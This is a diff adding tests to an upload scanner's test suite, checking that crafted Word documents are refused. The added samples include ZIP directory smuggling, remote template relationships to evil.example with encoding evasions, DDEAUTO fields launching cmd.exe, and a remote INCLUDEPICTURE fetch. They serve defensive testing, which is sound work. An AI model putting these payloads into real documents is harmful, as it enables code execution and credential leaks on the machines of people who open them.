@@ -6,10 +6,11 @@ import sharp from 'sharp'
 import t from 'tap'
 import type { UploadScanner } from '../../plugins/uploads/index.js'
 import { build, CODES, MIB } from './build.js'
-import { bombOf, CONTENT_TYPES, docx, DOCX_TYPE, IMAGE_TYPES, pdf, picture, relationship, stream, zipOf, type Format, type ZipEntry } from './forms.js'
+import { bombOf, CONTENT_TYPES, docx, DOCX_TYPE, IMAGE_TYPES, pdf, picture, relationship, relationships, stream, zipOf, type Format, type ZipEntry } from './forms.js'
 
 const image = (format: Format, content: Buffer) => ({ filename: `a.${format}`, type: IMAGE_TYPES[format], content })
 const document = (content: Buffer) => ({ filename: 'a.pdf', type: 'application/pdf', content })
+const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
 const word = (content: Buffer) => ({ filename: 'a.docx', type: DOCX_TYPE, content })
 
 t.test('a decompression bomb is refused by its header, in no time and no memory [ASVS 5.2.6]', async t => {
@@ -187,6 +188,11 @@ t.test('an archive that is no document, or leaves its folder, or is one in part,
     'something behind it': Buffer.concat([docx(), Buffer.from('<script>alert(1)</script>')]),
     'a comment': docx([], { comment: '<script>alert(1)</script>' }),
     'cut in the middle': docx().subarray(0, 400),
+    'a second directory': twoDirectories(docx(), docx([{ name: 'word/vbaProject.bin', content: 'x' }])),
+    'an entry that is in no directory': hiddenIn(docx(), zipOf([{ name: 'word/vbaProject.bin', content: 'x' }])),
+    'two names for one entry': evil({ name: 'word/_rels/settings.xml.rels', content: relationship('attachedTemplate', 'http://evil.example/x.dotm', 'External'), path: 'word/x.dat' }),
+    'XML of another encoding': evil({ content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
+    'XML in EBCDIC': evil({ content: Buffer.from('4c6fa7949340a5859989a296957e7ff14bf07f6f6e', 'hex') }),
     'no directory': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
   })) t.match(await send('/document', word(content)), { status: 400, code: CODES.content }, what)
   const workbook = docx([{ name: '[Content_Types].xml', content: CONTENT_TYPES.replace('wordprocessingml.document.main', 'spreadsheetml.sheet.main') }])
@@ -194,6 +200,21 @@ t.test('an archive that is no document, or leaves its folder, or is one in part,
   t.equal(handled(), 1)
   t.equal(stored().length, 1)
 })
+
+/** The end tells where one directory is, and how long the other one, in front of which it stands. */
+function twoDirectories (shown: Buffer, other: Buffer): Buffer {
+  const end = Buffer.from(shown.subarray(-22))
+  other.copy(end, 12, other.length - 10, other.length - 6)
+  return Buffer.concat([shown.subarray(0, -22), other.subarray(0, -22), end])
+}
+
+function hiddenIn (shown: Buffer, other: Buffer): Buffer {
+  const directory = shown.readUInt32LE(shown.length - 6)
+  const hidden = other.subarray(0, other.readUInt32LE(other.length - 6))
+  const whole = Buffer.concat([shown.subarray(0, directory), hidden, shown.subarray(directory)])
+  whole.writeUInt32LE(directory + hidden.length, whole.length - 6)
+  return whole
+}
 
 t.test('a document with macros, or one that Word would complete from elsewhere, is refused', async t => {
   const { send, handled } = await build(t)
@@ -208,11 +229,33 @@ t.test('a document with macros, or one that Word would complete from elsewhere, 
     'its type written otherwise': docx([{ name: rels, content: relationship('attached&#84;emplate', 'http://evil.example/x.dotm', 'External') }]),
     'its mode written otherwise': docx([{ name: rels, content: relationship('frame', 'http://evil.example/', '&#69;xternal') }]),
     'a picture from elsewhere': docx([{ name: rels, content: relationship('image', 'file://evil.example/share/x.png', 'External') }]),
+    ...Object.fromEntries(Object.entries({
+      'a type inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?Type='/hyperlink'" Type="${TEMPLATE}" TargetMode="External"/>`,
+      'a mode inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?TargetMode='Internal'" Type="${TEMPLATE}" TargetMode="External"/>`,
+      'an end inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?a>b" Type="${TEMPLATE}" TargetMode="External"/>`,
+      'a prefix of other letters': `<é.x:Relationship xmlns:é.x="x" Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}" TargetMode="External"/>`,
+      'a type of another namespace': `<Relationship xmlns:x="x" x:Type="http://x/hyperlink" Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}" TargetMode="External"/>`,
+      'a template from elsewhere that is called internal': `<Relationship Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}"/>`,
+      'a part of another format': '<Relationship Id="r" Target="x.rtf" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/>',
+      'a package in another folder': '<Relationship Id="r" Target="x.xlsx" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"/>',
+      'a pane of an add-in': '<Relationship Id="r" Target="x.xml" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"/>',
+    }).map(([what, inner]) => [what, docx([{ name: rels, content: relationships(inner) }])])),
+    ...Object.fromEntries(Object.entries({
+      'a field that runs a program': '<w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText>',
+      'its name in two runs': '<w:r><w:instrText>dd</w:instrText></w:r><w:r><w:instrText xml:space="preserve">e c:\\cmd.exe</w:instrText></w:r>',
+      'a field in one element': "<w:fldSimple w:instr=' DDE \"c:\\cmd.exe\"'/>",
+      'a field in numbered signs': '<w:instrText>&#68;DEAUTO x</w:instrText>',
+      'a field as it stands': '<w:instrText><![CDATA[DDEAUTO x]]></w:instrText>',
+      'a field that fetches': '<w:instrText>INCLUDEPICTURE "\\\\evil.example\\a.png" \\d</w:instrText>',
+      'a field behind much text': `<w:t>${Array.from({ length: 300_000 }, (_none, i) => `<w:t>${Math.sin(i)}</w:t>`).join('')}<w:instrText>DDE x</w:instrText>`,
+    }).map(([what, inner]) => [what, docx([{ name: 'word/document.xml', content: `<w:document xmlns:w="x"><w:body>${inner}</w:body></w:document>` }])])),
     'an object from elsewhere': docx([{ name: rels, content: relationship('oleObject', 'mhtml:http://evil.example/x.html!x', 'External') }]),
   }
   for (const [what, content] of Object.entries(attacks)) t.match(await send('/document', word(content)), { status: 400, code: CODES.active }, what)
   t.equal(handled(), 0)
-  const keeping = await build(t, {}, { '/document': { kinds: ['docx'], maxBytes: MIB, active: 'keep' } })
+  const harmless = '<w:fldChar/><w:instrText> HYPERLINK "https://x/?a=1&amp;b=added" </w:instrText><w:fldChar/><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/>'
+  t.equal((await send('/document', word(docx([{ name: 'word/header1.xml', content: `<w:hdr xmlns:w="x">${harmless}</w:hdr>` }])))).status, 201, 'fields that only count')
+  const keeping = await build(t, {}, { '/document': { kinds: ['docx'], maxBytes: 10 * MIB, active: 'keep' } })
   for (const [what, content] of Object.entries(attacks)) t.equal((await keeping.send('/document', word(content))).status, 201, `the control, active: 'keep': ${what}`)
 })
 
